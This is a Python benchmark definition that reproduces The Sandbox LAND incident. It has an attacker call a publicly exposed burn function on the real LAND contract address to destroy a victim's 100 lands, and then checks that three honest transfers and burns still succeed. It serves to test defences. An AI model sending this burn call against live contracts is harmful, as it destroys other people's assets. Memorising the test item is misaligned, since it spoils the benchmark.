"""The Sandbox, February 2022: the `_burn` of its land was public."""

from benches.quality.plan import Incident, Plan, becomes, call
from benches.quality.state import entry

LAND = "0x50f5474724e0ee42d9a4e711ccfb275809fd6d4a"
VICTIM = "0x9cfa73b8d300ec5bf204e4de4a58e5ee6b7dc93c"
_SUPER_OPERATORS, _COUNTS, _OWNERS = 1, 3, 4


def build(plan: Plan) -> None:
    attacker = plan.actor("attacker")
    burner = plan.deploy(attacker, "LandBurner")
    plan.attack(
        plan.transaction(
            attacker, burner, call("burn(address,address,uint256,uint256)", LAND, VICTIM, 3738, 100)
        ),
        changes=[becomes(LAND, "balanceOf(address)", VICTIM, least=-100)],
    )

    buyer = plan.actor("buyer")

    def owns(owner: str, land: int) -> None:
        plan.state.write(LAND, entry(owner, _COUNTS), plan.state.at(LAND, entry(owner, _COUNTS)) + 1)
        plan.state.write(LAND, entry(land, _OWNERS), owner)

    giver = plan.actor("giver")
    owns(giver.address, 90_000)
    owns(giver.address, 90_001)
    plan.honest(
        "an owner gives a land away",
        plan.transaction(
            giver,
            LAND,
            call("safeTransferFrom(address,address,uint256)", giver.address, buyer.address, 90_000),
        ),
        changes=[becomes(LAND, "balanceOf(address)", buyer.address, least=1)],
    )
    tired = plan.actor("tired")
    owns(tired.address, 90_002)
    plan.honest(
        "an owner burns its only land",
        plan.transaction(tired, LAND, call("burn(uint256)", 90_002)),
        changes=[becomes(LAND, "balanceOf(address)", tired.address, least=-1)],
    )
    market, seller = plan.install("Wallet"), plan.actor("seller")
    plan.state.write(LAND, entry(market, _SUPER_OPERATORS), 1)
    owns(seller.address, 90_003)
    move = call("transferFrom(address,address,uint256)", seller.address, buyer.address, 90_003)
    plan.honest(
        "a marketplace that Sandbox trusts sells a land",
        plan.through(
            market, plan.actor("other buyer"), (LAND, 0, move), (seller.address, 10**18, b""), value=10**18
        ),
        changes=[becomes(LAND, "balanceOf(address)", buyer.address, least=1)],
        by="contract",
    )


SANDBOX = Incident("Sandbox", {"Land": LAND}, build)
